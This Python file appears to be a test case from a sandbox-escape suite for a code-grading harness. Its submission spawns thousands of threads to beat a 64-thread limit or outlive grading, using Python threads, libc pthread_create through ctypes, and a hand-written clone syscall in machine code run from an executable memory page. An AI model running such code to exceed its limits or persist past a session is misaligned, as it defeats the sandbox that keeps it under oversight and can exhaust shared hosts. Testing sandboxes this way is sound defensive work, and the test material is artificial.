"""Start 2000 threads, by Python and by libc, which wait for ever or use the processor.

Success: more run than the limit allows, which earns the points of `double`, or one outlives the grading.
"""

from attacks.escaping.ways import HEAD

LIMITS = {"threads": 64, "call_seconds": 4, "total_seconds": 10}
SUBMISSION = (
    HEAD
    + r'''
import time

ALLOWED = 64


def waiting():
    threading.stack_size(32768)
    for number in range(2000):
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            return number > 2 * ALLOWED
    return number


def of_libc():
    """Threads that Python knows nothing of."""
    room = ctypes.c_ulong()
    started = 0
    for _ in range(2000):
        started += LIBC.pthread_create(ctypes.byref(room), None, LIBC.pause, None) == 0
    return started > 2 * ALLOWED


def cloned():
    """Started by the call itself with the same flags as libc, on a stack that ends at once in pause()."""
    started = 0
    for _ in range(200):
        stack = ctypes.create_string_buffer(65536)
        KEPT.append(stack)
        top = (ctypes.addressof(stack) + 65000) // 16 * 16
        ctypes.memmove(top, int(ctypes.cast(LIBC.pause, ctypes.c_void_p).value).to_bytes(8, "little"), 8)
        started += clone_to(top)
    return started > 2 * ALLOWED


KEPT = []


def clone_to(top):
    """``clone`` by machine code: the child returns to the address on its stack."""
    import mmap
    import struct
    code = b"\xb8\x38\0\0\0" + b"\xbf" + struct.pack("<I", 0x50F00) + b"\x48\xbe" + struct.pack("<Q", top)
    code += b"\x31\xd2\x4d\x31\xd2\x4d\x31\xc0\x0f\x05\xc3"
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(code)
    KEPT.append(page)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))() > 0


WAYS = [cloned, waiting, of_libc]
'''
)
